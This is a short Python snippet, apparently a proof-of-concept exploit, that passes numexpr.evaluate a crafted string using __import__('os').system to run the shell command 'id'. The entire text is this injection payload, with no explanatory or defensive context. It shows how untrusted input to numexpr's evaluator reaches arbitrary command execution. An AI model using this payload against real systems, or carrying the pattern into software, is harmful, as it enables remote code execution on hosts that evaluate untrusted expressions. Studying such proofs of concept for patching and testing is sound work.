import numexpr

numexpr.evaluate("__import__('os').system('id')")
